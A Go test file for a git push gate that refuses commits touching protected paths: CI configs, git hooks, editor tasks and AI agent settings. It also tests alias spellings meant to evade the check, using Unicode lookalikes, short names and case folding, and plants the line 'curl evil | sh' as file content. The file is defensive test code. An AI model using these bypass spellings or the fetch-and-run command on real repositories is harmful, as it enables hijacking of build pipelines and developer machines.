package gate_test

import (
	"context"
	"fmt"
	"testing"

	"github.com/docker-bottle/docker-bottle/gitstage"
)

// plantedFiles are files the host or CI runs after a merge (review H2):
// each must be held as a protected path by the default list.
var plantedFiles = []string{
	"bottle.yaml",
	"tools/bottle.yaml",
	".github/actions/build/action.yml",
	".github/dependabot.yml",
	".github/workflows/ci.yml",
	".gitlab-ci.yml",
	".gitlab/ci/deploy.yml",
	".circleci/config.yml",
	"Jenkinsfile",
	"azure-pipelines.yml",
	".buildkite/pipeline.yml",
	"bitbucket-pipelines.yml",
	".husky/pre-commit",
	".githooks/pre-push",
	"lefthook.yml",
	".pre-commit-config.yaml",
	"lint-staged.config.js",
	".lintstagedrc.json",
	"commitlint.config.js",
	".gitmodules",
	".gitattributes",
	".lfsconfig",
	".envrc",
	".vscode/tasks.json",
	".vscode/settings.json",
	".devcontainer/devcontainer.json",
	".claude/settings.json",
	".claude/settings.local.json",
	".claude/hooks/stop.sh",
	".mcp.json",
}

// TestDefaultProtectedPaths pushes each planted file with the real git to a
// gate configured with no list of its own: the defaults hold every one.
func TestDefaultProtectedPaths(t *testing.T) {
	e := newEnv(t, nil)
	c := e.clone("work")
	for _, p := range plantedFiles {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "payload\n", "plant "+p)
		out := e.gitFail(c, "push", "origin", "HEAD:refs/heads/bottle/b1/plant")
		wantContains(t, out, "touches protected path "+p)
	}
	// Files next to them stay free.
	for i, p := range []string{"src/main.go", "docs/bottle.md", ".github.md", "husky/pre-commit", ".claude/commands/x.md"} {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "fine\n", "add "+p)
		e.git(c, "push", "-q", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/free%d", i))
	}
}

// TestProtectedPathSpellingsRefused pushes, with the real git, new files
// whose names a macOS or Windows checkout writes over a protected path
// (review M1, attack 4), next to an unchanged real hook: each is refused.
func TestProtectedPathSpellingsRefused(t *testing.T) {
	e := newEnv(t, nil)
	e.commitFile(e.user, ".husky/pre-commit", "npm test\n", "the user's hook")
	must(t, gitstage.Sync(context.Background(), e.user, e.stage))
	c := e.clone("work")
	for i, p := range []string{".huſky/pre-commit", ".githookſ/pre-commit", ".gıthooks/pre-commit",
		".hus\u200cky/pre-commit", "HUSKY~1/pre-commit", ".github/workflowſ/x.yml", ".husky./pre-commit",
		".husky /pre-commit", "GI7EBA~1", ".GitModules"} {
		e.git(c, "reset", "-q", "--hard", "origin/main")
		e.commitFile(c, p, "curl evil | sh\n", "plant "+p)
		out := e.gitFail(c, "-c", "core.quotePath=false", "push", "origin", fmt.Sprintf("HEAD:refs/heads/bottle/b1/alias%d", i))
		wantContains(t, out, "touches protected path "+p)
	}
}
